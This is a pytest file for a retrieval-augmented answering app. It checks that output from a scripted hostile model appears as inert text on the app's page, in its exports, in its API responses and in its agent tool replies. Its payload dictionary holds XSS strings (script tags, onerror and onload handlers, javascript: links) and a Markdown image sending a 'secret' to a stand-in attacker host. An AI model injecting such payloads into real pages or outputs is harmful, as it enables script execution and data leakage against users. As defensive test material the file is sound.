"""Text of a hostile language model is plain text on the page, in exports and in JSON."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Mapping

import pytest
from markdown_it import MarkdownIt
from starlette.testclient import TestClient

from rag.engine import QueryEngine
from rag.verification import Gate
from rag.writing.writer import Writer
from tests.support.processes import ROOT
from tests.support.scripted import ScriptedLLM, cites, model_of
from ui.app import create_app

pytestmark = pytest.mark.slow_cases

REPORT = ROOT / "seeds" / "cambodia-scam-raids.md"
QUESTION = "How many suspects were arrested, and over how many days?"
BEGINS = "PHNOM PENH"
ARRESTED = "More than a thousand suspects were arrested within three days"
ACTIVE = ("<script", "<img", "<svg", "<iframe", 'href="javascript:', "onerror=alert(1)>")
HOSTILE = {
    "a script": f"{ARRESTED}. <script>alert(1)</script>",
    "a picture": f"{ARRESTED} <img src=x onerror=alert(1)> ![x](http://attacker.example/?q=secret)",
    "a link": f'{ARRESTED}. [Read more](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
    "a frame": f'{ARRESTED}. <iframe src="http://attacker.example"></iframe><svg onload=alert(1)>',
    "an end of the markup": f"{ARRESTED}. </div></span>--></script><script>alert(1)</script>",
    "a footnote of its own": f'{ARRESTED}. <a class="fn-mark" href="#cite-1">[1]</a>',
    "formulas": f"{ARRESTED}. $$\\href{{javascript:alert(1)}}{{x}}$$",
    "controls": f"{ARRESTED}. \x1b[2J\x00\u202e",
    "addresses": (
        f"{ARRESTED}. See https://attacker.example/?q=secret, www.attacker.example, attacker.com/x and "
        "ada@attacker.example"
    ),
}
LINKED = re.compile(r"(?:https?|ftp)://|\bwww\.|[\w-]\.(?:com|example)\b|\w@", re.IGNORECASE)
"""What a client that makes links of bare addresses looks for, also after it has resolved all escapes."""


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def client(
    request: pytest.FixtureRequest, library: Callable[[Mapping[str, str]], QueryEngine]
) -> Iterator[TestClient]:
    """A server over one report with a hostile model; unsupported sentences are struck out."""
    index = library({REPORT.name: REPORT.read_text(encoding="utf-8")}).index
    llm = ScriptedLLM(cites((f"{ARRESTED}.", BEGINS), (request.param, BEGINS)))
    writer = Writer(model_of(llm), Gate(), "strike")
    engine = QueryEngine(index, writer=writer, keeps=True)
    with TestClient(create_app(index, engine), base_url="http://127.0.0.1") as client:
        yield client
    assert llm.sent


def active(markup: str) -> list[str]:
    """The active elements that a browser would run."""
    return [tag for tag in ACTIVE if tag in markup.lower()]


def test_what_a_model_writes_is_words_of_the_exports(client: TestClient) -> None:
    answer = client.post("/v1/chat", json={"question": QUESTION}).json()
    assert (answer["model"], len(answer["sentences"]) > 1) == ("scripted", True)
    path = f"/v1/answers/{answer['answer_id']}"
    page = client.get(f"{path}.html")
    assert active(page.text) == []
    assert "script-src" not in page.headers["content-security-policy"]
    copied = client.get(f"{path}/text")
    assert copied.status_code == 200, copied.text
    assert active(copied.json()["html"]) == []
    markdown = client.get(f"{path}.md").text
    assert active(MarkdownIt("commonmark", {"html": True}).render(markdown)) == []
    completion = client.post(
        "/v1/chat/completions", json={"messages": [{"role": "user", "content": QUESTION}]}
    ).json()
    content = completion["choices"][0]["message"]["content"]
    response = client.post("/v1/responses", json={"input": QUESTION}).json()
    for text in (content, response["output"][0]["content"][0]["text"], told(client)):
        shown = MarkdownIt("commonmark", {"html": True}).render(text)
        assert active(shown) == []
        assert LINKED.findall(shown) == []


def told(client: TestClient) -> str:
    """The text of the tool that answers a question for an agent."""
    asked = {"name": "ask", "arguments": {"question": QUESTION}}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": asked}
    told = client.post("/mcp", json=call, headers={"Accept": "application/json, text/event-stream"})
    assert told.status_code == 200, told.text
    return str(told.json()["result"]["content"][0]["text"])


def test_what_a_model_writes_is_words_of_the_page(client: TestClient) -> None:
    body = {"data": [QUESTION, "", None, ""], "fn_index": 0, "session_hash": "model", "trigger_id": 4}
    assert client.post("/gradio_api/queue/join", json=body).status_code == 200
    said = client.get("/gradio_api/queue/data?session_hash=model").text
    sent = [json.loads(line[6:]) for line in said.splitlines() if line.startswith("data: ")]
    shown = json.dumps([each.get("output") for each in sent])
    assert "fn-answer" in shown
    assert active(shown) == []
    assert active(MarkdownIt("commonmark", {"html": True}).render(shown)) == []
